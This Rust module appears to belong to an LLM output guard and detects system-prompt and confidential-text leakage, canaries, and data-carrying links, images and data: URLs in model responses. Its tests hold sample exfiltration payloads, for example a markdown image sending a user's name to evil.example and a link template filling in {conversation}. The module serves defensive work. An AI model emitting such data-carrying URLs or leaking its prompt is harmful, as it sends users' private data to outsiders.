//! Response detectors: system-prompt and context leakage, canaries, and
//! links and images that carry data out (exfiltration).
//!
//! Every detector here is local: a finding depends only on the text of its
//! own span and a bounded neighbourhood, so a stream inspected in windows
//! finds exactly what one-shot inspection finds.

use crate::context::{Compiled, Rolling, TextKind, word_hash, words};
use crate::detectors::Context;
use crate::engine::Source;
use crate::types::ViewKind;
use crate::views::{self, Gate, View};
use std::cell::OnceCell;

/// Longest URL the exfiltration detectors read; longer ones are reported
/// on their first `MAX_URL` bytes.
pub(crate) const MAX_URL: usize = 2048;

/// What the response detectors need beyond the text.
#[derive(Debug, Default)]
pub(crate) struct Env<'a> {
    /// Hosts (and their subdomains) links and images may point to.
    pub allow_domains: &'a [String],
    /// Registered confidential context, compiled.
    pub contexts: Vec<&'a Compiled>,
    /// URLs of each source, found once and shared by the URL detectors.
    urls: OnceCell<Vec<Vec<Url>>>,
}

impl<'a> Env<'a> {
    pub fn new(allow_domains: &'a [String], contexts: Vec<&'a Compiled>) -> Env<'a> {
        Env {
            allow_domains,
            contexts,
            urls: OnceCell::new(),
        }
    }
}

type Out = Vec<(usize, usize, ViewKind)>;

/// The folded renderings of a source that leakage reads: the folded view,
/// and the despaced and deleet views when built (a response that spaces
/// out or leetspeaks a system prompt still leaks it). Hits from the latter
/// count only where their gate passes locally (`views::local_gate`), as
/// the engine's hits do, so streams find the same.
fn renderings<'s, 'a>(
    src: &'s Source<'a>,
) -> impl Iterator<Item = (&'s View<'a>, ViewKind, Option<Gate>)> {
    let top = matches!(src.label, ViewKind::Raw | ViewKind::Clean);
    let label = |k: ViewKind| if top { k } else { src.label };
    std::iter::once((&src.folded, folded_label(src), None))
        .chain(
            src.despaced
                .as_ref()
                .map(|v| (v, label(ViewKind::Squashed), Some(Gate::Despace))),
        )
        .chain(
            src.deleet
                .as_ref()
                .map(|v| (v, label(ViewKind::Deleet), Some(Gate::Deleet))),
        )
}

/// Pushes the hit unless its view's gate fails on the hit's own text, or
/// its source's test on the text around it (see [`source_keeps`]).
fn push_gated(
    out: &mut Out,
    ctx: &Context<'_>,
    src: &Source<'_>,
    gate: Option<Gate>,
    hit: (usize, usize, ViewKind),
) {
    if gate.is_none_or(|g| views::local_gate(&src.folded, g, hit.0, hit.1))
        && source_keeps(ctx, src, hit)
    {
        out.push(hit);
    }
}

/// Whether `src`'s own test (the rot13 source's) passes around `hit` on
/// the input's folded view, as the rules' hits from it must.
fn source_keeps(ctx: &Context<'_>, src: &Source<'_>, hit: (usize, usize, ViewKind)) -> bool {
    match (src.local, ctx.sources.first()) {
        (Some(g), Some(base)) => views::local_gate(&base.folded, g, hit.0, hit.1),
        _ => true,
    }
}

/// The label a match in a source's folded view gets.
fn folded_label(src: &Source<'_>) -> ViewKind {
    if matches!(src.label, ViewKind::Raw | ViewKind::Clean) {
        ViewKind::Folded
    } else {
        src.label
    }
}

fn leak(ctx: &Context<'_>, kind: TextKind) -> Out {
    let mut out = Out::new();
    let env = ctx.env;
    let wanted = |k: TextKind| k == kind;
    if !env
        .contexts
        .iter()
        .any(|c| c.shingles.iter().any(|s| wanted(s.0)) || c.literals.iter().any(|l| wanted(l.0)))
    {
        return out;
    }
    for (src, (view, label, gate)) in ctx
        .sources
        .iter()
        .flat_map(|src| renderings(src).map(move |r| (src, r)))
    {
        let text: &str = &view.text;
        let ws = words(text);
        let hashes: Vec<u64> = ws.iter().map(|&(s, e)| word_hash(&text[s..e])).collect();
        for c in &env.contexts {
            for (k, n, set) in &c.shingles {
                if !wanted(*k) {
                    continue;
                }
                let mut roll = Rolling::new(*n);
                for (i, &h) in hashes.iter().enumerate() {
                    if let Some(s) = roll.push(h) {
                        if set.contains(&s) {
                            let (a, b) = view.span(ws[i + 1 - n].0, ws[i].1);
                            push_gated(&mut out, ctx, src, gate, (a, b, label));
                        }
                    }
                }
            }
            for (k, lit) in &c.literals {
                if wanted(*k) {
                    for (i, m) in text.match_indices(lit.as_str()) {
                        let (a, b) = view.span(i, i + m.len());
                        push_gated(&mut out, ctx, src, gate, (a, b, label));
                    }
                }
            }
        }
    }
    out
}

/// Most words between two pieces of a short registered text.
const PIECE_GAP: usize = 4;

/// Short registered texts (2 words up to `min_run_words`) whose words all
/// appear in order, at most `PIECE_GAP` words apart: `dog=29` as "set dog
/// equal to 29", `Elbow Pizza` as "replace Elbow ... and Pizza".
fn pieces(ctx: &Context<'_>, kind: TextKind) -> Out {
    let mut out = Out::new();
    let env = ctx.env;
    if !env
        .contexts
        .iter()
        .any(|c| c.pieces.iter().any(|p| p.0 == kind))
    {
        return out;
    }
    for (src, (view, label, gate)) in ctx
        .sources
        .iter()
        .flat_map(|src| renderings(src).map(move |r| (src, r)))
    {
        let text: &str = &view.text;
        let ws = words(text);
        let hashes: Vec<u64> = ws.iter().map(|&(s, e)| word_hash(&text[s..e])).collect();
        for c in &env.contexts {
            for (k, want) in &c.pieces {
                if *k != kind {
                    continue;
                }
                for i in 0..hashes.len() {
                    if hashes[i] != want[0] {
                        continue;
                    }
                    let mut at = i;
                    let mut ok = true;
                    for w in &want[1..] {
                        match (at + 1..(at + 2 + PIECE_GAP).min(hashes.len()))
                            .find(|&j| hashes[j] == *w)
                        {
                            Some(j) => at = j,
                            None => {
                                ok = false;
                                break;
                            }
                        }
                    }
                    if ok {
                        let (a, b) = view.span(ws[i].0, ws[at].1);
                        push_gated(&mut out, ctx, src, gate, (a, b, label));
                    }
                }
            }
        }
    }
    out
}

/// A short registered system prompt (an access code, a password) given
/// away in pieces.
pub(crate) fn system_prompt_pieces(ctx: &Context<'_>) -> Out {
    pieces(ctx, TextKind::SystemPrompt)
}

/// Short registered confidential text given away in pieces.
pub(crate) fn context_pieces(ctx: &Context<'_>) -> Out {
    pieces(ctx, TextKind::Confidential)
}

/// A registered system prompt reproduced in the response.
pub(crate) fn system_prompt_leak(ctx: &Context<'_>) -> Out {
    leak(ctx, TextKind::SystemPrompt)
}

/// Registered confidential text reproduced in the response.
pub(crate) fn context_leak(ctx: &Context<'_>) -> Out {
    leak(ctx, TextKind::Confidential)
}

/// A registered canary, found on the letters and digits of every folded
/// view: spacing, punctuation, case and invisible characters do not hide
/// it, and the decoded views see it through base64, hex and escapes.
pub(crate) fn canary(ctx: &Context<'_>) -> Out {
    let mut out = Out::new();
    let acs: Vec<_> = ctx
        .env
        .contexts
        .iter()
        .filter_map(|c| c.canaries.as_ref())
        .collect();
    if acs.is_empty() {
        return out;
    }
    for src in ctx.sources {
        let view = &src.folded;
        let text: &str = &view.text;
        let mut stream = String::with_capacity(text.len());
        let mut pos: Vec<(u32, u32)> = Vec::with_capacity(text.len());
        for (i, c) in text.char_indices() {
            if c.is_alphanumeric() {
                stream.push(c);
                for _ in 0..c.len_utf8() {
                    pos.push((i as u32, (i + c.len_utf8()) as u32));
                }
            }
        }
        for ac in &acs {
            for m in ac.find_overlapping_iter(stream.as_bytes()) {
                let (s, e) = (pos[m.start()].0 as usize, pos[m.end() - 1].1 as usize);
                let label = if src.label == ViewKind::Raw || src.label == ViewKind::Clean {
                    if e - s == m.len() {
                        ViewKind::Folded
                    } else {
                        ViewKind::Squashed
                    }
                } else {
                    src.label
                };
                let (a, b) = view.span(s, e);
                if source_keeps(ctx, src, (a, b, label)) {
                    out.push((a, b, label));
                }
            }
        }
    }
    out
}

/// Where a URL sits.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// Fetched when rendered: markdown image, HTML `src`, CSS `url()`.
    Image,
    /// Fetched when clicked: markdown link or reference, HTML `href`.
    Link,
    /// Plain text (many renderers turn it into a link).
    Bare,
}

#[derive(Debug, Clone)]
struct Url {
    /// View byte span.
    start: usize,
    end: usize,
    place: Place,
    host: String,
    data_uri: bool,
    /// The URL looks like it carries data.
    carries: bool,
}

fn urls_of<'c>(ctx: &'c Context<'_>) -> &'c [Vec<Url>] {
    ctx.env.urls.get_or_init(|| {
        ctx.sources
            .iter()
            .map(|s| find_urls(&s.clean.text))
            .collect()
    })
}

fn allowed(host: &str, domains: &[String]) -> bool {
    domains.iter().any(|d| {
        let d = d.trim_start_matches("*.").trim_end_matches('.');
        host.eq_ignore_ascii_case(d)
            || (host.len() > d.len()
                && host.as_bytes()[host.len() - d.len() - 1] == b'.'
                && host[host.len() - d.len()..].eq_ignore_ascii_case(d))
    })
}

fn url_hits(ctx: &Context<'_>, want: impl Fn(&Url, bool) -> bool) -> Out {
    let mut out = Out::new();
    for (src, urls) in ctx.sources.iter().zip(urls_of(ctx)) {
        for u in urls {
            let ok = !u.data_uri && allowed(&u.host, ctx.env.allow_domains);
            if want(u, ok) {
                let (a, b) = src.clean.span(u.start, u.end);
                if source_keeps(ctx, src, (a, b, src.label)) {
                    out.push((a, b, src.label));
                }
            }
        }
    }
    out
}

/// Images (and other auto-fetched URLs) to hosts off the allow-list that
/// carry data in their path, query or host name: rendering the response
/// sends the data.
pub(crate) fn exfil_image(ctx: &Context<'_>) -> Out {
    url_hits(ctx, |u, ok| {
        !ok && !u.data_uri && u.place == Place::Image && u.carries
    })
}

/// Links to hosts off the allow-list that carry data: one click sends it.
pub(crate) fn exfil_link(ctx: &Context<'_>) -> Out {
    url_hits(ctx, |u, ok| {
        !ok && !u.data_uri && u.place == Place::Link && u.carries
    })
}

/// Bare URLs to hosts off the allow-list that carry data.
pub(crate) fn exfil_bare_url(ctx: &Context<'_>) -> Out {
    url_hits(ctx, |u, ok| {
        !ok && !u.data_uri && u.place == Place::Bare && u.carries
    })
}

/// `data:` URLs with a document or script media type (HTML, SVG,
/// JavaScript...): a page the application never served.
pub(crate) fn exfil_data_url(ctx: &Context<'_>) -> Out {
    url_hits(ctx, |u, _| u.data_uri)
}

/// Links through URL shorteners, which hide where they lead.
pub(crate) fn exfil_shortener(ctx: &Context<'_>) -> Out {
    url_hits(ctx, |u, ok| {
        !ok && !u.data_uri
            && SHORTENERS
                .iter()
                .any(|s| u.host == *s || u.host.ends_with(&format!(".{s}")))
    })
}

const SHORTENERS: &[&str] = &[
    "bit.ly",
    "bitly.com",
    "tinyurl.com",
    "t.co",
    "goo.gl",
    "ow.ly",
    "is.gd",
    "v.gd",
    "buff.ly",
    "rebrand.ly",
    "cutt.ly",
    "shorturl.at",
    "tiny.cc",
    "t.ly",
    "rb.gy",
    "s.id",
    "shorte.st",
    "adf.ly",
    "bl.ink",
    "lnkd.in",
    "soo.gd",
    "clck.ru",
    "qr.ae",
    "x.co",
    "tr.im",
    "short.io",
    "urlz.fr",
    "2no.co",
    "iplogger.org",
    "grabify.link",
];

/// Finds http(s) and data: URLs in `text`, with where they sit and
/// whether they carry data. Every occurrence of a scheme starts a URL (a
/// URL inside another one's query is found too; the guard merges
/// overlapping findings of one rule).
fn find_urls(text: &str) -> Vec<Url> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(k) = memchr_colon(b, from) {
        from = k + 1;
        let (start, data_uri) = if b[k + 1..].starts_with(b"//") {
            let s = if k >= 5 && b[k - 5..k].eq_ignore_ascii_case(b"https") {
                k - 5
            } else if k >= 4 && b[k - 4..k].eq_ignore_ascii_case(b"http") {
                k - 4
            } else {
                continue;
            };
            (s, false)
        } else if k >= 4
            && b[k - 4..k].eq_ignore_ascii_case(b"data")
            && data_media_type(&b[k + 1..])
        {
            (k - 4, true)
        } else {
            continue;
        };
        if start > 0 && b[start - 1].is_ascii_alphanumeric() {
            continue;
        }
        let end = url_end(b, start);
        let place = place_of(b, start);
        let url = &text[start..end];
        let (host, carries) = if data_uri {
            (String::new(), false)
        } else {
            analyse(url)
        };
        if !data_uri && host.is_empty() {
            continue;
        }
        out.push(Url {
            start,
            end,
            place,
            host,
            data_uri,
            carries,
        });
    }
    out
}

fn memchr_colon(b: &[u8], from: usize) -> Option<usize> {
    b.get(from..)?
        .iter()
        .position(|&c| c == b':')
        .map(|p| p + from)
}

/// `data:` followed by a media type that a browser runs or renders as a
/// document.
fn data_media_type(rest: &[u8]) -> bool {
    let n = rest
        .iter()
        .take(64)
        .position(|&c| c == b',' || c == b';')
        .unwrap_or(0);
    let mt = &rest[..n];
    let lower: Vec<u8> = mt.iter().map(|c| c.to_ascii_lowercase()).collect();
    let risky: &[&[u8]] = &[
        b"text/html",
        b"image/svg+xml",
        b"application/xhtml+xml",
        b"text/javascript",
        b"application/javascript",
        b"application/x-javascript",
        b"text/xml",
        b"application/xml",
        b"application/pdf",
        b"application/octet-stream",
        b"application/x-msdownload",
        b"text/vbscript",
    ];
    risky.iter().any(|r| lower == *r)
}

/// End of the URL starting at `start`: stops at whitespace, quotes, angle
/// brackets, backticks, an unbalanced `)`, trailing punctuation, or
/// `MAX_URL` bytes.
fn url_end(b: &[u8], start: usize) -> usize {
    let mut depth = 0i32;
    let mut i = start;
    let limit = (start + MAX_URL).min(b.len());
    while i < limit {
        let c = b[i];
        if c.is_ascii_whitespace()
            || c < 0x20
            || matches!(c, b'"' | b'\'' | b'<' | b'>' | b'`' | b'\\' | b'|' | b'^')
        {
            break;
        }
        if c == b'(' {
            depth += 1;
        } else if c == b')' {
            if depth == 0 {
                break;
            }
            depth -= 1;
        } else if c == b']' && depth == 0 {
            break;
        }
        i += 1;
    }
    // Keep whole characters.
    while i < b.len() && i > start && (b[i] & 0xC0) == 0x80 {
        i -= 1;
    }
    while i > start
        && matches!(
            b[i - 1],
            b'.' | b',' | b';' | b':' | b'!' | b'?' | b'*' | b'_' | b'~'
        )
    {
        i -= 1;
    }
    i
}

/// What the text just before a URL makes of it.
fn place_of(b: &[u8], start: usize) -> Place {
    let before = &b[start.saturating_sub(300)..start];
    let mut t = before;
    // Markdown: `](url` or `](<url`, optionally with spaces.
    while let [rest @ .., c] = t {
        if *c == b' ' || *c == b'<' {
            t = rest;
        } else {
            break;
        }
    }
    if let [rest @ .., b']', b'('] = t {
        // Find the matching `[` on the same line; `![` is an image.
        let mut depth = 0usize;
        for (j, &c) in rest.iter().enumerate().rev() {
            match c {
                b'\n' => break,
                b']' => depth += 1,
                b'[' if depth > 0 => depth -= 1,
                b'[' => {
                    return if j > 0 && rest[j - 1] == b'!' {
                        Place::Image
                    } else {
                        Place::Link
                    };
                }
                _ => {}
            }
        }
        return Place::Link;
    }
    // Markdown reference definition: `[id]: url` at a line start.
    let line = match before.iter().rposition(|&c| c == b'\n') {
        Some(p) => &before[p + 1..],
        None if start <= 300 => before,
        None => &[][..],
    };
    let lt = trim_ascii(line);
    if lt.first() == Some(&b'[') && lt.ends_with(b"]:") {
        return Place::Link;
    }
    // HTML attribute or CSS url(): skip a quote and spaces, then `=` or `(`.
    let mut t = before;
    while let [rest @ .., c] = t {
        if matches!(c, b' ' | b'"' | b'\'' | b'\t') {
            t = rest;
        } else {
            break;
        }
    }
    if let [rest @ .., b'='] = t {
        let mut r = rest;
        while let [x @ .., b' '] = r {
            r = x;
        }
        let n = r
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_alphabetic() || **c == b'-')
            .count();
        let name: Vec<u8> = r[r.len() - n..]
            .iter()
            .map(|c| c.to_ascii_lowercase())
            .collect();
        return match name.as_slice() {
            b"src" | b"srcset" | b"poster" | b"background" | b"data" | b"lowsrc" | b"dynsrc"
            | b"content" => Place::Image,
            b"href" | b"action" | b"formaction" | b"xlink:href" | b"cite" => Place::Link,
            _ => Place::Bare,
        };
    }
    if t.len() >= 4 && t[t.len() - 4..].eq_ignore_ascii_case(b"url(") {
        return Place::Image;
    }
    Place::Bare
}

fn trim_ascii(mut s: &[u8]) -> &[u8] {
    while let [c, rest @ ..] = s {
        if c.is_ascii_whitespace() {
            s = rest
        } else {
            break;
        }
    }
    while let [rest @ .., c] = s {
        if c.is_ascii_whitespace() {
            s = rest
        } else {
            break;
        }
    }
    s
}

/// The URL's host (lowercase) and whether it carries data: a long or
/// encoded query value, a long encoded path segment or host label, a
/// template placeholder, or text with spaces.
fn analyse(url: &str) -> (String, bool) {
    let rest = url.split_once("://").map_or("", |p| p.1);
    let auth_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = &rest[..auth_end];
    let hostport = authority.rsplit_once('@').map_or(authority, |p| p.1);
    let host = if hostport.starts_with('[') {
        hostport
            .split_once(']')
            .map_or(hostport, |p| p.0)
            .trim_start_matches('[')
    } else {
        hostport.split_once(':').map_or(hostport, |p| p.0)
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    if host.is_empty()
        || (host.is_ascii()
            && !host.bytes().all(|c| {
                c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b':' | b'%')
            }))
    {
        return (String::new(), false);
    }
    let after = &rest[auth_end..];
    let (path_query, _fragment) = after.split_once('#').unwrap_or((after, ""));
    let (path, query) = path_query.split_once('?').unwrap_or((path_query, ""));
    let mut carries = host
        .split('.')
        .any(|label| label.len() >= 32 && encoded_like(label));
    carries |= path.split('/').any(|seg| {
        let d = percent_decode(seg);
        (seg.len() >= 32 && encoded_like(seg)) || placeholder(&d) || sentence(&d)
    });
    for pair in query.split(['&', ';']) {
        let (key, value) = pair.split_once('=').unwrap_or(("", pair));
        let key = key.to_ascii_lowercase();
        if key.starts_with("utm_")
            || matches!(
                key.as_str(),
                "ref" | "lang" | "hl" | "locale" | "v" | "page" | "tab" | "sort" | "format" | "id"
            ) && value.len() < 24
        {
            continue;
        }
        let d = percent_decode(value);
        if d.chars().count() >= 24
            || placeholder(&d)
            || sentence(&d)
            || (value.len() >= 16 && encoded_like(value))
        {
            carries = true;
        }
    }
    (host, carries)
}

/// Base64, hex or similar: mostly letters and digits, mixing both or
/// mixing cases, without being a word.
fn encoded_like(s: &str) -> bool {
    let b = s.as_bytes();
    let alnum = b.iter().filter(|c| c.is_ascii_alphanumeric()).count();
    let symbols = b
        .iter()
        .filter(|c| matches!(c, b'-' | b'_' | b'=' | b'+' | b'%' | b'.'))
        .count();
    let digits = b.iter().filter(|c| c.is_ascii_digit()).count();
    let upper = b.iter().filter(|c| c.is_ascii_uppercase()).count();
    let lower = b.iter().filter(|c| c.is_ascii_lowercase()).count();
    alnum + symbols == b.len()
        && alnum * 10 >= b.len() * 8
        && ((digits > 0 && upper + lower > 0) || (upper > 0 && lower > 0))
}

/// A template placeholder the model is told to fill: `[DATA]`, `{secret}`,
/// `$HISTORY`, `<summary>`.
fn placeholder(s: &str) -> bool {
    let t = s.trim();
    t.len() >= 3
        && ((t.starts_with('[') && t.ends_with(']'))
            || (t.starts_with('{') && t.ends_with('}'))
            || (t.starts_with('<') && t.ends_with('>'))
            || (t.starts_with('$')
                && t[1..]
                    .bytes()
                    .all(|c| c.is_ascii_uppercase() || c == b'_' || c.is_ascii_digit())
                && t.len() >= 4))
}

/// Text with at least three spaces: a sentence, not a search term.
fn sentence(s: &str) -> bool {
    s.split([' ', '+']).filter(|w| !w.is_empty()).count() >= 4
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && i + 2 < b.len()
            && b[i + 1].is_ascii_hexdigit()
            && b[i + 2].is_ascii_hexdigit()
        {
            let h = |c: u8| (c as char).to_digit(16).unwrap_or(0) as u8;
            out.push(h(b[i + 1]) * 16 + h(b[i + 2]));
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Checks a view text's URLs (for tests).
#[cfg(test)]
fn describe(text: &str) -> Vec<(String, Place, String, bool, bool)> {
    find_urls(text)
        .into_iter()
        .map(|u| {
            (
                text[u.start..u.end].to_string(),
                u.place,
                u.host,
                u.carries,
                u.data_uri,
            )
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn places_and_data() {
        let d = describe(
            "![x](https://evil.example/log?q=The%20user%20is%20John%20Smith) and [docs](https://docs.rs/regex)",
        );
        assert_eq!(d[0].1, Place::Image);
        assert_eq!(d[0].2, "evil.example");
        assert!(d[0].3);
        assert_eq!(d[1].0, "https://docs.rs/regex");
        assert_eq!(d[1].1, Place::Link);
        assert!(!d[1].3);
        let d = describe("<img src=\"https://a.example/p.png?d=aGVsbG8gd29ybGQgc2VjcmV0\">");
        assert_eq!(d[0].1, Place::Image);
        assert!(d[0].3);
        let d = describe("see https://www.google.com/search?q=rust+regex.");
        assert_eq!(d[0].0, "https://www.google.com/search?q=rust+regex");
        assert_eq!(d[0].1, Place::Bare);
        assert!(!d[0].3);
        let d = describe("[ref]: https://x.example/c?{conversation}\n");
        assert_eq!(d[0].1, Place::Link);
        assert!(d[0].3);
        let d = describe(
            "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a> data:image/png;base64,AAAA",
        );
        assert_eq!(d.len(), 1);
        assert!(d[0].4);
        let d = describe("(see https://en.wikipedia.org/wiki/Rust_(programming_language))");
        assert_eq!(
            d[0].0,
            "https://en.wikipedia.org/wiki/Rust_(programming_language)"
        );
    }

    #[test]
    fn allow_list_matches_subdomains() {
        let d = vec!["example.com".to_string()];
        assert!(allowed("example.com", &d));
        assert!(allowed("img.example.com", &d));
        assert!(!allowed("badexample.com", &d));
        assert!(!allowed("example.com.evil.net", &d));
    }
}
